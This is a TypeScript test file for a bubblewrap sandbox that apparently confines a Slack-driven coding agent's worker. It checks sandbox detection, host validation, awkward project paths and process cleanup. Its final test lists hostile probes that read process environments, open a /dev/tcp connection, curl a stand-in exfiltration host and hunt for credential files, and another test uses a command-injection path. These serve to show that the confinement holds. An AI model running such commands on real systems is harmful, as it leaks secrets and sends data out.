import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { chmod, mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { describe, it } from 'node:test';
import { createLog } from '../../src/lib/log.ts';
import { openConfinement } from '../../src/worker/sandbox/open.ts';
import { findSandbox } from '../../src/worker/sandbox/support.ts';
import { readWorkerSettings } from '../../src/worker/settings.ts';
import { testTimeoutMs } from '../agents/turns.ts';
import { temporaryFolder } from '../support/app.ts';
import { confined, skip } from './sandboxed-team.ts';

async function fakeBwrap(script: string): Promise<NodeJS.ProcessEnv> {
  const folder = temporaryFolder();
  await writeFile(join(folder, 'bwrap'), `#!/bin/sh\n${script}\n`);
  await chmod(join(folder, 'bwrap'), 0o755);
  return { PATH: folder };
}

async function confinement(env: NodeJS.ProcessEnv, given: NodeJS.ProcessEnv = {}) {
  const worker = { OPENCODE_SLACK_URL: 'ws://127.0.0.1:1', OPENCODE_SLACK_WORKER_TOKEN: 'test-only' };
  const settings = await readWorkerSettings({ ...worker, ...given }, new PassThrough());
  return await openConfinement(settings, env, createLog('silent'));
}

describe('a machine without a sandbox', {
  skip: process.platform !== 'linux',
  timeout: testTimeoutMs,
}, () => {
  it('names the package that is missing', async () => {
    const support = await findSandbox({ PATH: temporaryFolder() });
    assert.ok(support.kind === 'none');
    assert.match(
      `${support.reason} ${support.remedy}`,
      /bubblewrap is not installed.*apt-get install bubblewrap/,
    );
  });

  it('says why a bubblewrap does not work, in its own words', async () => {
    const support = await findSandbox(
      await fakeBwrap('echo "bwrap: No permissions to make a namespace" >&2; exit 1'),
    );
    assert.ok(support.kind === 'none');
    assert.match(support.reason, /does not work here\. bwrap: No permissions to make a namespace/);
    assert.match(support.remedy, /unprivileged user namespaces/);
  });

  it('has tasks wait with the reason where a sandbox is required, and only there', async () => {
    const env = { PATH: temporaryFolder() };
    const { blocked, state, sandbox } = await confinement(env, { OPENCODE_SLACK_SANDBOX: 'required' });
    assert.match(blocked ?? '', /^Tasks wait: a sandbox is required\. .*bubblewrap is not installed/);
    assert.deepEqual([state.state, sandbox], ['unavailable', null]);
    assert.equal((await confinement(env)).blocked, null);
  });

  it('refuses a host that is none, by its name', async () => {
    const hosts = { OPENCODE_SLACK_ALLOW_HOSTS: 'example.org,http://evil' };
    await assert.rejects(
      confinement({ PATH: '' }, hosts),
      /OPENCODE_SLACK_ALLOW_HOSTS: "http:\/\/evil" is no host/,
    );
  });
});

describe('a project', { skip, timeout: testTimeoutMs }, () => {
  it('may have quotes, blanks and line breaks in its path', async (t) => {
    const projectRoot = join(temporaryFolder(), `a "b" 'c'\n$(touch d) e`);
    await mkdir(projectRoot);
    const { run } = await confined(t, { projectRoot });
    assert.equal((await run('one', 'pwd; echo x > file')).output, `${projectRoot}\n`);
    assert.ok(existsSync(join(projectRoot, 'file')));
  });

  it('may be read-only', { skip: process.getuid?.() !== 0 && 'only root can mount' }, async (t) => {
    const projectRoot = join(temporaryFolder(), 'project');
    await mkdir(projectRoot);
    assert.equal(spawnSync('mount', ['-t', 'tmpfs', '-o', 'ro', 'tmpfs', projectRoot]).status, 0);
    const { run } = await confined(t, { projectRoot });
    t.after(() => spawnSync('umount', ['-l', projectRoot]));
    assert.match(
      (await run('one', 'mkdir .claude; echo works')).output,
      /(?=[\s\S]*read-only)(?=[\s\S]*works)/i,
    );
  });
});

describe('a program in its sandbox', { skip, timeout: testTimeoutMs }, () => {
  it('ends when bubblewrap is killed, and so does all that it started', async (t) => {
    const { run, pid } = await confined(t);
    const [, broken] = await Promise.all(
      [run('one', 'sleep 3142 & echo'), run(null, 'sleep 3142')].map((one, at) =>
        at === 0 ? one.then(() => process.kill(pid, 'SIGKILL')) : one,
      ),
    );
    assert.notEqual((broken as { code: number | null }).code, 0);
    const { stdout } = spawnSync('ps', ['-eo', 'args'], { encoding: 'utf8' });
    assert.ok(!stdout.split('\n').includes('sleep 3142'));
  });

  it('sees nothing of the person and reaches nobody by itself', async (t) => {
    const { run } = await confined(t);
    const probes = [
      'cat /proc/*/environ | tr "\\0" "\\n" | grep -v PROGRAM_SECRET',
      'ls -la /root /home /tmp /srv /mnt /var 2>&1',
      '/bin/bash -c "echo > /dev/tcp/1.1.1.1/53"',
      'curl -sS -m 5 --noproxy "" -x http://127.0.0.1:3128 http://exfiltrate.example/',
      'find / -xdev -name "*.db" -o -xdev -name server.json 2>/dev/null',
    ];
    for (const probe of probes) {
      const { output } = await run(null, probe);
      assert.doesNotMatch(output, /canary|chat\.db|server\.json/, probe);
    }
    assert.match((await run(null, probes[2] ?? '')).output, /unreachable|refused/i);
  });
});
